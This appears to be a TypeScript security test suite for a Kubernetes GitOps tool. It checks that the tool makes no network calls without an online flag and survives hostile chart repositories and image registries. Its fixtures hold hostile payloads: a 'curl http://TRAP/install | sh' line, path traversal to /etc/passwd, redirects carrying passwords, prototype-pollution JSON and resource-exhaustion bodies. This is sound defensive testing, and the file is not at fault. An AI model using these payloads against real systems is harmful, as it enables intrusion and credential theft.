import type { Answer, Call, CommandAttack, Server } from '../command-attack.ts';
import {
  type Files,
  app,
  attack,
  chart,
  diff,
  each,
  esc,
  evil,
  freely,
  harmless,
  here,
  json,
  just,
  kustomization,
  map,
  secret,
  set,
} from './kit.ts';

const object = map('a', '{ a: b }');
const online: Call = { ...freely(json), args: ['check', '.', '--online', '-o', 'json'] };

/** Trees that name addresses, and commands without a flag that would let them go there. */
const offline: Readonly<Record<string, readonly [Files, readonly Call[]]>> = {
  'an upgrade': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/charts, chart: x, targetRevision: "1.*"') },
    [just('upgrade', '.', 'main'), just('upgrade', '.', '--to', 'kubernetes=1.33')],
  ],
  'a proof and a fix': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/charts, chart: x, targetRevision: "*"') },
    [just('prove', '.', 'main'), just('fix', '.', '--all')],
  ],
  'parity and reports': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/x.git, targetRevision: main, path: .') },
    [just('parity', '.'), just('report', 'inventory', '.'), just('report', 'risk', '.', '--base', 'main')],
  ],
  'a lint of a chart': [
    {
      ...chart({ 'a.yaml': object }),
      'evil/Chart.yaml':
        'apiVersion: v2\nname: evil\nversion: 1.0.0\nicon: http://TRAP/i.png\nhome: http://TRAP\nsources: ["http://TRAP"]\ndependencies: [{ name: x, version: "1", repository: "http://TRAP" }, { name: y, version: "1", repository: "oci://TRAP/y" }]\n',
    },
    [just('helm', 'lint', 'evil'), just('helm', 'template', 'evil')],
  ],
  'an agent': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/charts, chart: x, targetRevision: "1.*"') },
    [
      {
        args: ['mcp', '.'],
        asks: [
          { method: 'tools/call', params: { name: 'check', arguments: {} } },
          { method: 'tools/call', params: { name: 'diff', arguments: { range: 'main' } } },
        ],
      },
    ],
  ],
  'an editor': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/charts, chart: x, targetRevision: "1.*"') },
    [
      {
        args: ['lsp'],
        asks: [
          {
            notify: 'textDocument/didOpen',
            params: {
              textDocument: {
                uri: 'file://TREE/apps/evil.yaml',
                languageId: 'yaml',
                version: 1,
                text: '# yaml-language-server: $schema=http://TRAP/x\nkind: Application',
              },
            },
          },
          {
            method: 'textDocument/hover',
            params: {
              textDocument: { uri: 'file://TREE/apps/evil.yaml' },
              position: { line: 0, character: 30 },
            },
          },
        ],
      },
    ],
  ],
  'a server': [
    { 'apps/evil.yaml': app('repoURL: http://TRAP/charts, chart: x, targetRevision: "1.*"') },
    [
      {
        args: ['serve', 'tree=.', '--port', '0', '--database', '../history.db'],
        asks: [{ path: '/api/v1/watched/tree/report', awaits: 'witness-web' }],
      },
    ],
  ],
  'settings of the cluster in the tree': [
    {
      ...harmless,
      kubeconfig:
        'apiVersion: v1\nkind: Config\ncurrent-context: x\ncontexts: [{ name: x, context: { cluster: x } }]\nclusters: [{ name: x, cluster: { server: "http://TRAP" } }]\n',
      '.kube/config': 'apiVersion: v1\nkind: Config\n',
    },
    [just('diagnose', 'evil'), just('check', '.')],
  ],
  'traces by the configuration': [
    {
      ...harmless,
      '.env': 'OTEL_EXPORTER_OTLP_ENDPOINT=http://TRAP\nHTTPS_PROXY=http://TRAP\nHTTP_PROXY=http://TRAP\n',
      'phineus.yaml': 'telemetry: { endpoint: "http://TRAP" }\n',
    },
    [just('check', '.')],
  ],
  'resources of a component': [
    kustomization(
      'components: ["http://TRAP/c?ref=x", "TRAP//x"]\ngenerators: ["http://TRAP/g.yaml"]\ntransformers: ["http://TRAP/t.yaml"]\nvalidators: ["http://TRAP/v.yaml"]\nconfigurations: ["http://TRAP/c.yaml"]\nreplacements: [{ path: "http://TRAP/r.yaml" }]\n',
    ),
    [json, just('kustomize', 'build', 'evil')],
  ],
  'a set of pull requests': [
    {
      'apps/evil.yaml': set(
        '[{ pullRequest: { gitea: { api: "http://TRAP", owner: a, repo: b }, bitbucketServer: { api: "http://TRAP", project: x, repo: y } } }, { scmProvider: { azureDevOps: { api: "http://TRAP", organization: a, teamProject: b } } }, { clusterDecisionResource: { configMapRef: x } }]',
      ),
    },
    [json],
  ],
  'a webhook and an issuer': [
    evil({
      'a.yaml':
        'apiVersion: cert-manager.io/v1\nkind: ClusterIssuer\nmetadata: { name: a }\nspec: { acme: { server: "http://TRAP/dir", privateKeySecretRef: { name: k } } }\n---\napiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata: { name: w }\nwebhooks: [{ name: w.example.org, clientConfig: { url: "https://TRAP/w" }, sideEffects: None, admissionReviewVersions: [v1] }]\n',
    }),
    [json, just('forecast', '.')],
  ],
  'an image by every reference': [
    evil({
      'a.yaml':
        'apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { initContainers: [{ name: i, image: "http://TRAP/i" }], ephemeralContainers: [], containers: [{ name: a, image: "TRAP/a@sha256:0" }, { name: b, image: "oci://TRAP/b" }], volumes: [{ name: v, image: { reference: "TRAP/v:1" } }] }\n',
    }),
    [json, just('charts', 'list', '.', '-o', 'json'), just('fix', '.', '--all')].slice(0, 1),
  ],
  'a Jsonnet bundle': [
    evil({
      'a.jsonnet': "import 'http://TRAP/x.libsonnet'\n",
      'jsonnetfile.lock.json': '{"dependencies":[{"source":{"git":{"remote":"http://TRAP/x"}}}]}',
      'chartfile.yaml':
        'repositories: [{ name: x, url: "http://TRAP" }]\nrequires: [{ chart: x/y, version: 1.0.0 }]\n',
    }),
    [json],
  ],
};

const charts: Files = {
  'apps/evil.yaml': app('repoURL: http://SERVER/charts, chart: evil, targetRevision: "1.x"'),
};
const index = (entry: string) =>
  `apiVersion: v1\nentries:\n  evil:\n  - { apiVersion: v2, name: evil, version: 1.0.0, ${entry} }\n`;
const answering =
  (answers: Readonly<Record<string, Answer>>, rest: Answer = { status: 404, body: '' }): Server =>
  (path) =>
    Object.entries(answers).find(([part]) => path.includes(part))?.[1] ?? rest;

/** Repositories of charts that answer as they like. */
const repositories: Readonly<Record<string, Server>> = {
  'an index of deep lists': () => ({
    body: `entries:\n  evil: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`,
  }),
  'an index in another encoding': () => ({
    headers: { 'content-encoding': 'br' },
    body: 'not brotli at all',
  }),
  'an index with lengths that lie': () => ({
    headers: { 'content-length': '999999999' },
    body: index('urls: [x.tgz]'),
  }),
  'an index of a name with steps': () => ({
    body: index('urls: ["../../../../etc/passwd.tgz"]').replaceAll('evil', '"../../evil"'),
  }),
  'a redirect to itself with a password': (_path, { self }) => ({
    status: 302,
    headers: { location: `http://u:${secret}@${self}/x` },
  }),
  'a redirect without a place': () => ({ status: 302, headers: {} }),
  'a redirect to another scheme': () => ({ status: 308, headers: { location: 'gopher://127.0.0.1:9/_x' } }),
  'many headers': () => ({
    headers: Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`x-${i}`, 'y'.repeat(200)])),
    body: index('urls: [x.tgz]'),
  }),
  'cookies and refreshes': () => ({
    headers: { 'set-cookie': 'a=b; Domain=.', refresh: '0; url=http://127.0.0.1:9/' },
    body: index('urls: [x.tgz]'),
  }),
  'a status that is none': () => ({ status: 299, body: index('urls: [x.tgz]') }),
  'an archive that is a page': answering(
    { 'index.yaml': { body: index('urls: [x.tgz]') } },
    { headers: { 'content-type': 'text/html' }, body: `<html>${esc}</html>` },
  ),
  'an archive that is empty': answering({ 'index.yaml': { body: index('urls: [x.tgz]') } }, { body: '' }),
  'an archive that hangs': answering(
    { 'index.yaml': { body: index('urls: [x.tgz]') } },
    { body: '\u001f\u008b', hangs: true },
  ),
  'versions that are no versions': () => ({
    body: `entries:\n  evil: [${Array.from({ length: 3000 }, (_, i) => `{ name: evil, version: "${'9'.repeat(50)}.${i}.x-${'0'.repeat(300)}+${esc.length}" }`).join(', ')}]\n`,
  }),
  'an error with a login in it': () => ({
    status: 403,
    body: `denied for token=${secret} at https://u:${secret}@h/`,
  }),
};

/** Registries that answer as they like. */
const registries: Readonly<Record<string, Server>> = {
  'a challenge of many': () => ({
    status: 401,
    headers: {
      'www-authenticate': Array.from({ length: 500 }, (_, i) => `Bearer realm="http://h${i}/"`).join(', '),
    },
  }),
  'a challenge that is a file': () => ({
    status: 401,
    headers: { 'www-authenticate': 'Bearer realm="file:///etc/passwd",service="x"' },
  }),
  'a token that is a book': (path, { self }) =>
    path.includes('token')
      ? { body: JSON.stringify({ token: 'x'.repeat(500_000), expires_in: -1 }) }
      : { status: 401, headers: { 'www-authenticate': `Bearer realm="http://${self}/token",service="x"` } },
  'a manifest of an old kind': () => ({
    headers: { 'content-type': 'application/vnd.docker.distribution.manifest.v1+prettyjws' },
    body: '{"schemaVersion":1,"fsLayers":[{"blobSum":"sha256:../../x"}],"history":[{"v1Compatibility":"{"}]}',
  }),
  'a manifest that refers to itself': () => ({
    headers: { 'content-type': 'application/vnd.oci.image.index.v1+json' },
    body: `{"schemaVersion":2,"manifests":[{"mediaType":"application/vnd.oci.image.index.v1+json","digest":"sha256:${'c'.repeat(64)}","size":10}],"subject":{"digest":"sha256:${'c'.repeat(64)}"}}`,
  }),
  'layers by the thousand': () => ({
    headers: { 'content-type': 'application/vnd.oci.image.manifest.v1+json' },
    body: `{"schemaVersion":2,"config":{"digest":"sha256:${'0'.repeat(64)}","size":1},"layers":[${Array.from({ length: 5000 }, () => `{"mediaType":"application/vnd.cncf.helm.chart.content.v1.tar+gzip","digest":"sha256:${'1'.repeat(64)}","size":1e12}`).join(',')}]}`,
  }),
  'JSON with names of JavaScript': () => ({
    headers: { 'content-type': 'application/json' },
    body: '{"__proto__":{"layers":[]},"constructor":{"prototype":{}},"layers":{"length":1e9},"tags":{"length":1e9}}',
  }),
  'tags of every type': () => ({ body: '{"name":5,"tags":[null,5,{},[],"__proto__","1.0.0"]}' }),
};
const oci: Files = {
  'apps/evil.yaml': app('repoURL: SERVER/charts, chart: evil, targetRevision: "1.x"'),
  ...Object.fromEntries(
    Object.entries(
      evil({
        'a.yaml':
          'apiVersion: v1\nkind: Pod\nmetadata: { name: a }\nspec: { containers: [{ name: a, image: "SERVER/a:1" }] }\n',
      }),
    ).filter(([path]) => path !== 'apps/evil.yaml'),
  ),
  'apps/i.yaml': app(`${here}, path: evil`, '', 'i'),
};

export const network: readonly CommandAttack[] = [
  ...each(offline, (name, [files, calls]) =>
    attack(`network: without a flag: ${name}`, files, { server: () => ({}), calls }),
  ),
  ...each(repositories, (name, server) =>
    attack(`network: charts: ${name}`, charts, { server, calls: [{ ...online, hides: [secret] }] }),
  ),
  ...each(registries, (name, server) =>
    attack(`network: a registry: ${name}`, oci, {
      server,
      calls: [online, { args: ['images', 'lock', '.'], writes: ['phineus.images.lock.yaml'] }],
    }),
  ),
  attack(
    'network: online, and yet not to what is no source',
    {
      ...harmless,
      'evil/a.yaml': map('a', '{ url: "http://TRAP/x" }'),
      'evil/README.md': 'curl http://TRAP/install | sh\n',
      'evil/values.schema.json': '{"$ref":"http://TRAP/s.json"}',
    },
    {
      server: () => ({}),
      calls: [json, diff],
    },
  ),
];
